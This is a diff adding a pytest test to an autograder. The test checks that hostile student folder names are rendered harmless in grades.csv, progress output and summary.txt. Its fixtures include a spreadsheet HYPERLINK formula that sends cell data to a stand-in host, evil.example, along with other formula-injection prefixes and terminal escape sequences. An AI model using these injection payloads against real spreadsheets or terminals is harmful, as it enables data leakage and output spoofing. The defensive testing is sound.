@@ -104,3 +104,50 @@ def test_dask_cluster_gives_the_same_results_as_local_grading(class_dir, tmp_pat
         remote = run_batch(class_dir, tmp_path / "dask", chapters=["ch01_perceptron"], scheduler=cluster.scheduler_address,
                            limits=FAST, progress=None)
     assert remote.graded == local.graded and not remote.failed
+
+
+HOSTILE_NAMES = {
+    # folder name: (grades.csv cell, progress and summary text)
+    # a folder name has no "/": the URL is built with CHAR(47)
+    '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"ok")': (
+        '\'=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"ok")',
+        '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"ok")'),
+    "+1": ("'+1", "+1"),
+    "-2": ("'-2", "-2"),
+    "@cmd": ("'@cmd", "@cmd"),
+    "eve\x1b[2J\x1b]0;pwned\x07\rmallory": ("eve mallory", "eve mallory"),
+}
+
+
+def test_student_names_are_neither_formulas_nor_terminal_escapes(tmp_path):
+    """A student chooses the folder name: grades.csv gets no formula, the terminal no escape sequence."""
+    import io
+
+    from autograder.batch import BatchResult, write_class_files
+
+    root = tmp_path / "submitted"
+    for name in HOSTILE_NAMES:
+        (root / name).mkdir(parents=True)
+        (root / name / "ch01_perceptron.py").write_text((ROOT / "solutions" / "ch01_perceptron.py").read_text())
+    out = tmp_path / "results"
+    progress = io.StringIO()
+    result = run_batch(root, out, jobs=2, chapters=["ch01_perceptron"], limits=FAST, progress=progress)
+    assert not result.failed and set(result.graded) == set(HOSTILE_NAMES)
+    with open(out / "grades.csv", newline="") as handle:
+        table = list(csv.reader(handle))
+    full = f"{result.graded['+1']['max_score']:g}"
+    assert table[0] == ["student", "ch01_perceptron", "score", "max_score"]
+    assert sorted(table[1:]) == sorted([cell, full, full, full] for cell, _ in HOSTILE_NAMES.values())
+    raw = (out / "grades.csv").read_text()
+    assert "\x1b" not in raw and "\x07" not in raw and "\r\nmallory" not in raw
+    lines = progress.getvalue().splitlines()
+    assert sorted(line.split("] ", 1)[1] for line in lines) == sorted(f"{shown} {full}/{full}" for _, shown in HOSTILE_NAMES.values())
+    assert not any(c in progress.getvalue() for c in "\x1b\x07\r")
+    # a grading that failed puts the name and the reason in summary.txt
+    name = "eve\x1b[2J\x1b]0;pwned\x07\rmallory"
+    write_class_files(out, BatchResult(result.graded, {name: "OSError: \x1b[31mdisk\x1b[0m\nfull\x07"}, []),
+                      ["ch01_perceptron"])
+    summary = (out / "summary.txt").read_text()
+    assert summary.splitlines()[0] == "5 students graded, 1 failed, 0 already graded"
+    assert "FAILED eve mallory: OSError: disk full\n" in summary
+    assert not any(c in summary for c in "\x1b\x07\r")
